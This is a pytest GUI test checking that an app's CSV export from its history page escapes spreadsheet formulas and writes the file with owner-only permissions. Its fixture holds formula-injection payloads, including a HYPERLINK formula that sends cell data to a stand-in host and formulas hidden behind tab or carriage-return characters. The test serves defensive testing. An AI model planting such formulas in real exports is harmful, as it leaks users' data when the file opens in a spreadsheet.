"""A CSV export saved from the window: a note a spreadsheet would run as a formula opens as the
text it is, and the file is the user's alone."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from app.domain.clock import FixedClock
from app.domain.events import UrgeKind
from app.domain.logbook import log_urge
from app.storage.store import Store
from app.ui.controller import Controller
from app.ui.pages.history import HistoryPage

pytestmark = pytest.mark.gui

# Each would run as a formula in a spreadsheet: a link that sends data away, a sum, a macro.
FORMULAS = ['=HYPERLINK("https://example.com/?d="&A1,"open me")', "-1+2", "+1", "@SUM(A1:A9)"]
# A tab or a carriage return first hides the formula after it from a quick look.
HIDDEN = ["\t=1+2", "\r=1+2"]
PLAIN = "a = b, as before"


@pytest.fixture
def started_store(started_store: Store, clock: FixedClock) -> Store:
    """The started folder, with urges whose notes a spreadsheet would run."""
    with started_store.transaction(clock.now()) as changes:
        for note in (*FORMULAS, *HIDDEN, PLAIN):
            changes.add(log_urge(clock.now(), UrgeKind.TEXT, note=note))
    return started_store


def test_a_csv_export_from_the_history_page_keeps_formulas_as_text_and_private(
    controller: Controller, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    page = HistoryPage(controller)
    qtbot.addWidget(page)
    # The save dialog's answer, without the suffix: the page adds it.
    monkeypatch.setattr(
        HistoryPage, "choose_export_file", staticmethod(lambda parent, suffix: tmp_path / "mine")
    )

    page.export_csv_button.click()

    exported = tmp_path / "mine.csv"
    with exported.open(newline="", encoding="utf-8") as file:  # as a spreadsheet reads it
        notes = [row["note"] for row in csv.DictReader(file) if row["type"] == "urge"]
    assert sorted(notes) == sorted(["'" + note for note in (*FORMULAS, *HIDDEN)] + [PLAIN])
    assert stat.S_IMODE(exported.stat().st_mode) == 0o600
